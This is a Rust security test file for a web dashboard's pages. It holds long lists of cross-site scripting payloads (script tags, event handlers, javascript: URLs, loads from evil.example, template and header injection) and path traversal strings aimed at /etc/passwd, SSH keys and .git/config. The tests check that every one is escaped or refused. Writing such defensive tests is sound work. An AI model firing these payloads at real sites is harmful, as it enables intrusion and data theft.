//! Names chosen by somebody who wants to run something, and addresses that want to be paths.

use crate::{
    fixture::{Fixture, answer, request},
    tags::assert_ours,
};

/// What breaks out of text, attributes, comments, scripts, styles, addresses, SVG and templates, in its usual disguises.
const SCRIPTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' onfocus='alert(1)' autofocus='",
    "` onload=alert(1) `",
    "</title><script>alert(1)</script>",
    "</textarea><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</option></select><iframe srcdoc='<script>alert(1)</script>'>",
    "</svg><svg onload=alert(1)>",
    "</pre></code><object data=data:text/html,x>",
    "--><script>alert(1)</script><!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "//evil.example/x",
    "http://evil.example/x",
    "\\\\evil.example\\x",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example'</style>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u{3c}script\u{3e}alert(1)\u{3c}/script\u{3e}",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "\u{feff}<script>alert(1)</script>",
    "\u{202e}>tpircs<\u{202c}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>",
    "{0}{}{name}",
    "a\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>",
    "`<b>`<i>`",
    "\u{1b}]8;;http://evil.example\u{7}x\u{1b}[31m",
];

#[test]
fn hostile_names_are_text_on_every_page() {
    assert!(50 <= SCRIPTS.len());
    // Several at a time, because every store costs some hundred disk syncs; escaping looks at one character after the other.
    for some in SCRIPTS.chunks(9) {
        let text = some.join(" ");
        let fixture = Fixture::of(&text);
        for address in fixture.addresses() {
            let answer = answer(fixture.dir.path(), &text, &request(&address));
            assert_eq!(answer.status, 200, "{address}: {}", answer.body);
            assert_ours(&answer.body);
            let bad = answer.body.chars().find(|it| it.is_control() && *it != '\n');
            assert_eq!(bad, None, "{address}");
        }
    }
}

#[test]
fn hostile_queries_come_back_as_text() {
    let fixture = Fixture::of("some text");
    for text in SCRIPTS {
        let coded: String = text.bytes().map(|byte| format!("%{byte:02x}")).collect();
        for address in [
            format!("/runs?q={coded}"),
            format!("/runs?{coded}={coded}"),
            format!("/runs?step={coded}"),
            format!("/verdicts?gate={coded}"),
            format!("/compare?run={coded}&run={coded}"),
            format!("/models/{coded}"),
            format!("/{coded}"),
        ] {
            let answer = fixture.get(&address);
            assert_ours(&answer.body);
            assert!(matches!(answer.status, 200 | 400 | 404), "{address}: {}", answer.status);
        }
    }
}

/// Payloads that would leave a folder if any part of an address ever became a path.
const TRAVERSALS: &[&str] = &[
    "..",
    "../",
    "../secret",
    "../../secret",
    "../../../../../../../../etc/passwd",
    "..%2fsecret",
    "..%2Fsecret",
    "%2e%2e/secret",
    "%2e%2e%2fsecret",
    "%2E%2E%2Fsecret",
    "..%5csecret",
    "..%5Csecret",
    "..\\secret",
    "%2e%2e%5csecret",
    "%252e%252e%252fsecret",
    "..%252fsecret",
    "%25%32%65%25%32%65%25%32%66secret",
    "..%c0%afsecret",
    "%c0%ae%c0%ae%c0%afsecret",
    "%e0%80%ae%e0%80%ae%e0%80%afsecret",
    "..%ef%bc%8fsecret",
    "%ef%bc%8e%ef%bc%8e%ef%bc%8fsecret",
    "..%e2%88%95secret",
    "..%u2215secret",
    "....//secret",
    "..././secret",
    "....\\/secret",
    "..;/secret",
    "..;a=b/secret",
    "..%00/secret",
    "..%00",
    "%00",
    "secret%00.json",
    "..%0a/secret",
    "..%0d%0a/secret",
    "..%09/secret",
    ".%2e/secret",
    "%2e./secret",
    "./secret",
    "%2e/secret",
    "/etc/passwd",
    "//etc/passwd",
    "%2fetc%2fpasswd",
    "///secret",
    "C:%5cWindows%5cwin.ini",
    "C:/Windows/win.ini",
    "%5c%5cevil.example%5cshare",
    "file:///etc/passwd",
    "file:%2f%2f%2fetc%2fpasswd",
    "http://evil.example/",
    "~root/.ssh/id_rsa",
    "$HOME/secret",
    "karat.db",
    "karat.db-wal",
    "..%2fkarat.db",
    "objects",
    "objects/sha256",
    "runs",
    "tmp",
    "secret.",
    "secret ",
    "secret%20",
    "SECRET",
    ".git/config",
    "*",
    "?",
    "%3f",
    "%23",
    "sha256:..%2f..%2fsecret",
];

#[test]
fn no_address_reaches_a_file() {
    let fixture = Fixture::of("some text");
    let root = fixture.dir.path();
    const SECRET: &str = "the secret that no page may show";
    for place in [
        "secret",
        "runs/secret",
        "objects/secret",
        "objects/sha256/secret",
        "tmp/secret",
        "secret.json",
    ] {
        std::fs::write(root.join(place), SECRET).expect("a file beside the store's");
    }
    assert!(60 <= TRAVERSALS.len());
    let zeros = "0".repeat(62);
    for payload in TRAVERSALS {
        for address in [
            format!("/{payload}"),
            format!("/runs/{payload}"),
            format!("/runs/r-{payload}"),
            format!("/compare?run={payload}"),
            format!("/models/{payload}"),
            format!("/models/{payload}/1"),
            format!("/models/flights/{payload}"),
            format!("/models/flights/{payload}/lineage"),
            format!("/verdicts/{payload}"),
            format!("/data/{payload}"),
            format!("/artifacts/{payload}"),
            format!("/artifacts/{zeros}{payload}"),
            format!("/style.css/{payload}"),
            format!("/runs?q={payload}&page={payload}"),
        ] {
            let answer = fixture.get(&address);
            assert!(!answer.body.contains(SECRET), "{address}");
            assert!(!answer.body.contains("root:x:0"), "{address}");
            let is_page = matches!(answer.status, 200 | 400 | 404 | 414);
            assert!(is_page, "{address}: {} {}", answer.status, answer.body);
            // Only the lists, which look at no part of an address but their own words, answer.
            if answer.status == 200 {
                let path = address.split('?').next().unwrap_or_default();
                let is_list = [
                    "/",
                    "//",
                    "/runs",
                    "/runs/",
                    "/models/",
                    "/models/flights/",
                    "/verdicts/",
                    "/data/",
                    "/compare",
                ];
                assert!(is_list.contains(&path) || path == "/tmp", "{address} is a page");
            }
        }
    }
}

#[test]
fn addresses_have_a_length() {
    let fixture = Fixture::of("some text");
    assert_eq!(fixture.get(&format!("/runs/{}", "a".repeat(4000))).status, 414);
    assert_eq!(fixture.get(&format!("/runs?q={}", "a".repeat(1000))).status, 200);
    assert_eq!(fixture.get(&format!("/{}", "a/".repeat(500))).status, 400);
}
